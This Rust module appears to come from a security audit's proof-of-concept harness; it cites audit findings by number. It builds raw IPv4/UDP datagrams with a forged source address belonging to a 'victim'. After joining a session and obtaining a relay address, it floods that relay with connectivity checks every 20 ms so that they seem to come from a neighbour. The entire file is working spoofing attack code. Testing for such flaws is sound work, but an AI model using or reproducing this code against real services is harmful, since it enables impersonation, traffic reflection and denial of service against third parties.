//! Datagrams with a forged sender. They need a raw socket, which root has.

use std::net::{SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket as RawSocket, Type};

use super::Target;
use crate::page::Page;
use crate::socket::Socket;

/// The kernel takes the header of IP from the sender (raw(7)).
const IPPROTO_RAW: i32 = 255;
const EVERY: Duration = Duration::from_millis(20);

/// Findings 7 and F2: genuine checks of the guest that claim to come from a neighbour.
pub(super) async fn checks(target: &Target, until: Instant) -> String {
    let Ok(raw) = RawSocket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW))) else {
        return "nothing: no raw socket without root".to_owned();
    };
    let mut socket = Socket::dial(&target.base, &target.cookie, &target.session)
        .await
        .expect("a link opens a socket");
    socket.enter("customer", true).await.expect("it enters");
    let mut page = Page::new(None).await;
    let answer = socket.offer(1, &page.offer).await.expect("an answer");
    page.take(&answer);
    let mut sent = 0;
    while Instant::now() < until {
        let check = page.check();
        let (SocketAddr::V4(from), SocketAddr::V4(to)) = (target.victim, page.relay) else {
            return "nothing: not IPv4".to_owned();
        };
        let datagram = datagram(from, to, &check);
        sent += u32::from(raw.send_to(&datagram, &page.relay.into()).is_ok());
        page.live_until(EVERY, |_| false).await;
    }
    format!("{sent} checks")
}

/// A datagram with the headers of IPv4 (RFC 791, whose length and checksum the kernel fills in) and
/// UDP (RFC 768, without a checksum).
fn datagram(from: SocketAddrV4, to: SocketAddrV4, bytes: &[u8]) -> Vec<u8> {
    let mut datagram = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    datagram.extend(from.ip().octets());
    datagram.extend(to.ip().octets());
    datagram.extend(from.port().to_be_bytes());
    datagram.extend(to.port().to_be_bytes());
    let length = u16::try_from(8 + bytes.len()).unwrap();
    datagram.extend(length.to_be_bytes());
    datagram.extend([0, 0]);
    datagram.extend(bytes);
    datagram
}
